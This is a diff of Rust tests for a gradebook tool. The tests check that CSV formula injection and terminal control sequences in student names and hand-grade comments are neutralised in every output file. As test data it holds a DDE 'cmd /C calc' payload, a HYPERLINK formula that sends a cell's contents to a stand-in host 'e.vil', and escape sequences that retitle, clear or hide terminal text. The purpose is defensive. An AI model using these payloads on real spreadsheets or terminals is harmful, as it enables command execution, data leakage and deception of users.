@@ -65,8 +65,9 @@ fn a_formula_in_a_student_name_is_neutralised_in_the_gradebook() {
         [
             ("'@SUM(1+1)".to_owned(), format!("'{hyperlink}")),
             ("'+cmd|' /C calc'!A0".to_owned(), "'-2+3".to_owned()),
-            ("'\tx".to_owned(), "'\r=1".to_owned()),
-            ("''quoted".to_owned(), "'\0nul".to_owned()),
+            // A tab, a carriage return or a NUL is written visibly: the cell starts with a backslash.
+            (r"\tx".to_owned(), r"\r=1".to_owned()),
+            ("''quoted".to_owned(), r"\x00nul".to_owned()),
             ("plain".to_owned(), "Ada Lovelace".to_owned()),
         ]
     );
@@ -91,10 +92,26 @@ fn the_gradebook_numbers_stay_numbers_even_when_negative() {
 
 #[test]
 fn the_quote_comes_off_exactly_what_it_was_put_on() {
-    for text in ["=1+1", "-", "@", "\t", "\r", "'", "''x", "'x", "x", "", "a=b"] {
+    for text in ["=1+1", "-", "@", "'", "''x", "'x", "x", "", "a=b"] {
         assert_eq!(from_spreadsheet_text(&spreadsheet_text(text)), text, "{text:?}");
     }
+    // A cell of several lines keeps its tabs and line feeds, so one may start it.
+    for text in ["\tindented", "\n=1", "=1\n+2", "a\tb"] {
+        assert_eq!(from_spreadsheet_text(&spreadsheet_lines(text)), text, "{text:?}");
+    }
     assert_eq!(from_spreadsheet_text("'x"), "'x", "a quote the gradebook never writes stays");
+}
+
+#[test]
+fn control_characters_are_written_visibly_in_every_csv_cell() {
+    assert_eq!(
+        spreadsheet_text("a\x1b]0;pwned\x07\tb\r\nc\u{9b}\u{202e}"),
+        r"a\e]0;pwned\x07\tb\r\nc\u{9b}\u{202e}"
+    );
+    // Then a cell that would start a formula is quoted as such.
+    assert_eq!(spreadsheet_text("\t=1"), r"\t=1");
+    assert_eq!(spreadsheet_lines("line\r\n\x1b[2J=1\tx\n-2"), "line\n\\e[2J=1\tx\n-2");
+    assert_eq!(spreadsheet_lines("\t=1\r"), "'\t=1\\r");
 }
 
 #[test]
@@ -262,4 +279,114 @@ fn records_written_before_bonus_categories_still_load() {
     json["categories"][2].as_object_mut().unwrap().remove("bonus");
     let old: Record = serde_json::from_value(json).unwrap();
     assert!(!old.categories[2].bonus);
+}
+
+/// The Trouble assignment: `style` and `survey` are graded by hand, 10 points each.
+fn trouble() -> crate::load::Assignment {
+    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../cases");
+    crate::load::load_assignment(&root, "trouble").unwrap()
+}
+
+/// `(id, category, points, comment)` rows as a `--manual` file written by a CSV writer.
+fn manual_file(path: &Path, rows: &[[&str; 4]]) {
+    let mut writer = csv::Writer::from_writer(Vec::new());
+    writer.write_record(["id", "category", "points", "comment"]).unwrap();
+    for row in rows {
+        writer.write_record(row).unwrap();
+    }
+    std::fs::write(path, writer.into_inner().unwrap()).unwrap();
+}
+
+#[test]
+fn a_formula_in_a_hand_grade_comment_is_quoted_in_hand_grades_and_reads_back_as_typed() {
+    let typed = [
+        ("a1", r#"=HYPERLINK("http://e.vil/?"&A1,"click")"#),
+        ("a2", "+1"),
+        ("a3", "-2 for the globals"),
+        ("a4", "@SUM(A1)"),
+        ("a5", "'quoted"),
+        ("a6", "good;\n=1+1 on the second line"),
+        ("a7", "fine, no formula"),
+    ];
+    let dir = tempfile::tempdir().unwrap();
+    let given = dir.path().join("given.csv");
+    let lines: Vec<[&str; 4]> = typed.iter().map(|(id, comment)| [*id, "style", "7.5", *comment]).collect();
+    manual_file(&given, &lines);
+    let written = ManualGrades::read(&given, &trouble()).unwrap().to_csv();
+    let cells: Vec<(String, String)> =
+        rows(&written).into_iter().map(|row| (row[2].clone(), row[3].clone())).collect();
+    let quoted = |comment: &str| ("7.5".to_owned(), comment.to_owned());
+    assert_eq!(
+        cells,
+        [
+            quoted(r#"'=HYPERLINK("http://e.vil/?"&A1,"click")"#),
+            quoted("'+1"),
+            quoted("'-2 for the globals"),
+            quoted("'@SUM(A1)"),
+            quoted("''quoted"),
+            quoted("good;\n=1+1 on the second line"),
+            quoted("fine, no formula"),
+        ],
+        "the points stay a number"
+    );
+    // Kept with the class's outputs and read back by the next run: what the instructor typed.
+    std::fs::write(dir.path().join(HAND_GRADES_FILE), &written).unwrap();
+    let stored = ManualGrades::stored(dir.path(), &trouble()).unwrap();
+    for (id, comment) in typed {
+        let grade = stored.get(id, "style").unwrap();
+        assert_eq!((grade.points, grade.comment.as_deref()), (7.5, Some(comment)), "{id}");
+    }
+    assert_eq!(stored.to_csv(), written, "every later run writes the same file");
+}
+
+#[test]
+fn a_terminal_escape_in_a_students_folder_name_reaches_no_class_file_raw() {
+    let assignment = trouble();
+    // Sets the terminal's title, rings it, clears it, a C1 CSI, and a right-to-left override.
+    let id = "ada\x1b]0;pwned\x07\x1b[2J\u{9b}31m\u{202e}";
+    let shown = r"ada\e]0;pwned\x07\e[2J\u{9b}31m\u{202e}";
+    let raw = ['\x1b', '\x07', '\u{9b}', '\u{202e}'];
+    let class = tempfile::tempdir().unwrap();
+    let mut record = Record::ungraded(
+        &assignment,
+        id,
+        Some("Ada\x1b[31m"),
+        id,
+        "key",
+        StudentStatus::NoFiles,
+        format!("no file matching *.c in {id}"),
+    );
+    record.download.left_out = vec![format!("{id}.zip")];
+    let folder = class.path().join(STUDENTS_DIR).join(crate::batch::student_dir_name(id));
+    std::fs::create_dir_all(&folder).unwrap();
+    std::fs::write(folder.join(RECORD_FILE), serde_json::to_vec(&record).unwrap()).unwrap();
+    // The hand grade names the student as the gradebook shows them; its comment holds an escape too.
+    let given = class.path().join("given.csv");
+    manual_file(&given, &[[shown, "style", "3", "see \x1b[8mhidden"]]);
+    let manual = ManualGrades::read(&given, &assignment).unwrap();
+
+    let folders = [class.path().to_owned()];
+    let book = crate::batch::write_class(&assignment, &folders, class.path(), None, &manual, None).unwrap();
+    assert_eq!(book.students[0].categories.iter().find(|c| c.id == "style").unwrap().score, Some(3.0));
+    std::fs::write(class.path().join(HAND_GRADES_FILE), manual.to_csv()).unwrap();
+    let files = [
+        "gradebook.csv",
+        "class.html",
+        "summary.md",
+        HAND_GRADES_FILE,
+        &format!("{STUDENTS_DIR}/{}/{FEEDBACK_FILE}", crate::batch::student_dir_name(id)),
+        &format!("{STUDENTS_DIR}/{}/{FEEDBACK_HTML_FILE}", crate::batch::student_dir_name(id)),
+    ];
+    for file in files {
+        let text = std::fs::read_to_string(class.path().join(file)).unwrap();
+        assert!(!text.contains(raw), "a raw control character in {file}: {text:?}");
+        // Markdown escapes the backslashes and brackets of the shown id, HTML and CSV do not.
+        assert!(text.contains("pwned") && text.contains(r"\x07"), "{file} shows the id: {text}");
+    }
+    let gradebook = std::fs::read_to_string(class.path().join("gradebook.csv")).unwrap();
+    assert_eq!(rows(&gradebook)[0][..2], [shown, r"Ada\e[31m"]);
+    let page = std::fs::read_to_string(class.path().join("class.html")).unwrap();
+    assert!(page.contains(&format!("data-id=\"{shown}\"")), "{page}");
+    let feedback = std::fs::read_to_string(folder.join(FEEDBACK_FILE)).unwrap();
+    assert!(feedback.contains(r"see \e[8mhidden"), "{feedback}");
 }
